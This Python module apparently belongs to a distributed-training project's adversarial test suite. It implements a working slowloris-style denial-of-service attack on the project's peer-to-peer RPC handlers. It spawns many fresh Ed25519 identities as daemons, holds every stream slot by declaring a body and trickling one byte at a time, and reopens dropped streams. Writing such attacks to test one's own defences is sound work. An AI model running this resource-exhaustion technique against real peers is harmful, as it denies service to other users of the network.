"""The slow-body attack of tests/net/adversary.py (issue 28, item 2), written as a
stranger's program would: stock hivemind p2pd daemons, one per fresh Ed25519 identity,
and raw RPC streams framed by hand.

Each identity opens, to every victim and for each of `contribute`, `get_update` and
`hold_update`, as many streams as a caller may hold at once (the transport's per-caller
cap). On each it writes a valid 12-byte request header (b"PDQ1", u64 length) declaring a
body every handler accepts, then trickles the body one byte every `byte_every_s`: under
an idle timeout alone that holds the handler's slot for ever, and with enough identities
every slot of the handler (its global cap). A stream the victim drops (or refuses) is
opened again at once, until `duration_s` has passed. The result says how many streams
were opened, how many the victims dropped and after how long, how many were refused at
the door, and how many the attacker still held at the end.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import statistics
import tempfile
import time
from dataclasses import dataclass, field
from typing import Any

from hivemind.p2p import P2P, PeerID

from p2pdiloco.identity import Identity, save_identity
from p2pdiloco.transport.framing import (
    PROTOCOL_PREFIX,
    REQUEST_HEADER,
    REQUEST_MAGIC,
    RESPONSE_HEADER,
    RESPONSE_MAGIC,
)
from p2pdiloco.transport.ratelimit import DEFAULT_MAX_PER_CALLER
from p2pdiloco.wire import messages

SLOW_RPCS = (messages.RPC_CONTRIBUTE, messages.RPC_GET_UPDATE, messages.RPC_HOLD_UPDATE)
DECLARED_BYTES = 60_000
"""The body each stream declares: under every targeted handler's limit (`get_update`
takes 64 KiB) and under one chunk, so no continue byte is awaited before trickling."""
REOPEN_AFTER_REFUSAL_S = 0.5
"""A refused stream (the handler full, or the victim unreachable) is tried again after this."""
WRITE_BOUND_S = 10.0
"""A write the victim's side does not take within this counts as a dropped stream."""
DEFAULT_DURATION_S = 60.0
"""As long as bench_attack's attack window (scripts/attack_swarm.py)."""


def attack_duration_s() -> float:
    """The attack's length: $SLOW_BODIES_S (a test that watches several rounds under
    attack sets it), else `DEFAULT_DURATION_S`."""
    return float(os.environ.get("SLOW_BODIES_S", DEFAULT_DURATION_S))


@dataclass
class StreamTally:
    """What happened to the attacker's streams."""

    opened: int = 0
    open_failed: int = 0
    refused: int = 0
    refused_busy: int = 0
    dropped_after_s: list[float] = field(default_factory=list)
    held_to_end_s: list[float] = field(default_factory=list)
    by_rpc: dict[str, int] = field(default_factory=dict)
    callers: set[str] = field(default_factory=set)

    def summary(self) -> dict[str, Any]:
        drops = sorted(self.dropped_after_s)
        return {
            "opened": self.opened,
            "open_failed": self.open_failed,
            "dropped": len(drops),
            "refused": self.refused,
            "refused_busy": self.refused_busy,
            "held_to_end": len(self.held_to_end_s),
            "drop_after_s": {
                "min": round(drops[0], 2),
                "median": round(statistics.median(drops), 2),
                "max": round(drops[-1], 2),
            }
            if drops
            else None,
            "longest_held_s": round(max([*drops, *self.held_to_end_s], default=0.0), 2),
            "opened_by_rpc": dict(self.by_rpc),
            "callers_opened": len(self.callers),
        }


async def start_puppets(initial_peers: list[str], count: int, timeout_s: float = 60) -> list[P2P]:
    """`count` p2pd daemons, each with a freshly generated Ed25519 identity, bootstrapped
    from `initial_peers` (those that fail to start are left out)."""
    folder = tempfile.mkdtemp(prefix="slow-bodies-")

    async def one(i: int) -> P2P:
        path = os.path.join(folder, f"id{i}.key")
        save_identity(Identity.generate(), path)
        return await P2P.create(
            initial_peers=initial_peers,
            identity_path=path,
            check_if_identity_free=False,  # hivemind's check parses RSA keys only
            host_maddrs=["/ip4/127.0.0.1/tcp/0"],
            startup_timeout=timeout_s,
        )

    started = await asyncio.gather(*(one(i) for i in range(count)), return_exceptions=True)
    return [p for p in started if isinstance(p, P2P)]


async def _victim_addresses(p2p: P2P, victims: list[str]) -> list[str]:
    """Full multiaddrs of the victims our daemon knows (to bootstrap the puppets from)."""
    wanted, found = set(victims), []
    with contextlib.suppress(Exception):
        for info in await p2p.list_peers():
            peer = info.peer_id.to_base58()
            if peer in wanted:
                found += [f"{addr}/p2p/{peer}" for addr in info.addrs if "/ip4/" in str(addr)]
    return found


async def hold_one_stream(
    p2p: P2P, victim: str, protocol: str, until: float, byte_every_s: float, tally: StreamTally
) -> None:
    """One raw stream: a valid header, then one byte every `byte_every_s` until the victim
    answers, drops it, or `until` (time.monotonic) comes."""
    try:
        _, reader, writer = await asyncio.wait_for(
            p2p.call_binary_stream_handler(PeerID.from_base58(victim), protocol), WRITE_BOUND_S
        )
    except Exception:  # noqa: BLE001 - unreachable, or the daemon refused: try again later
        tally.open_failed += 1
        await asyncio.sleep(min(REOPEN_AFTER_REFUSAL_S, max(until - time.monotonic(), 0)))
        return
    opened = time.monotonic()
    tally.opened += 1
    tally.callers.add(p2p.peer_id.to_base58())
    answer = asyncio.ensure_future(reader.readexactly(RESPONSE_HEADER.size))
    try:
        writer.write(REQUEST_HEADER.pack(REQUEST_MAGIC, DECLARED_BYTES))
        await asyncio.wait_for(writer.drain(), WRITE_BOUND_S)
        while (left := until - time.monotonic()) > 0:
            done, _ = await asyncio.wait({answer}, timeout=min(byte_every_s, left))
            if done:
                break
            writer.write(b"\x00")
            await asyncio.wait_for(writer.drain(), WRITE_BOUND_S)
        else:
            tally.held_to_end_s.append(time.monotonic() - opened)
            return
        magic, status, length = RESPONSE_HEADER.unpack(answer.result())
        # any answer before the body is complete is a refusal (too many in flight, ...)
        tally.refused += 1
        if magic == RESPONSE_MAGIC and status != 0:
            with contextlib.suppress(Exception):
                reason = await asyncio.wait_for(reader.read(min(length, 4096)), 2)
                tally.refused_busy += b"too many concurrent" in reason
        await asyncio.sleep(min(REOPEN_AFTER_REFUSAL_S, max(until - time.monotonic(), 0)))
    except (asyncio.IncompleteReadError, ConnectionError, OSError, TimeoutError):
        tally.dropped_after_s.append(time.monotonic() - opened)
    finally:
        answer.cancel()
        with contextlib.suppress(Exception):
            writer.close()


async def keep_trickling(
    p2p: P2P, victim: str, protocol: str, until: float, byte_every_s: float, tally: StreamTally
) -> None:
    """One slot's worth of attack: a slow stream, opened again whenever it ends."""
    rpc = protocol.rsplit(".", 1)[-1]
    while time.monotonic() < until:
        tally.by_rpc[rpc] = tally.by_rpc.get(rpc, 0) + 1
        await hold_one_stream(p2p, victim, protocol, until, byte_every_s, tally)


async def trickle_attack(
    transport: Any,
    run: str,
    victims: list[str],
    duration_s: float = DEFAULT_DURATION_S,
    identities: int = 8,
    streams_per_caller: int = DEFAULT_MAX_PER_CALLER,
    byte_every_s: float = 1.5,
) -> dict[str, Any]:
    """The attack: `identities` fresh daemons beside the attacker's own, each holding
    `streams_per_caller` slow streams per victim and per targeted RPC for `duration_s`."""
    own = transport._daemon.p2p  # the hivemind p2pd under the attacker's own transport
    bootstrap = [*transport.initial_peers, *await _victim_addresses(own, victims)]
    puppets = await start_puppets(bootstrap, identities)
    tally = StreamTally()
    until = time.monotonic() + duration_s
    try:
        await asyncio.gather(
            *(
                keep_trickling(
                    p2p, victim, f"{PROTOCOL_PREFIX}{run}.{rpc}", until, byte_every_s, tally
                )
                for p2p in [own, *puppets]
                for victim in victims
                for rpc in SLOW_RPCS
                for _ in range(streams_per_caller)
            )
        )
    finally:
        for puppet in puppets:
            with contextlib.suppress(Exception):
                await asyncio.wait_for(puppet.shutdown(), 10)
    return {"identities": 1 + len(puppets), "duration_s": duration_s, **tally.summary()}
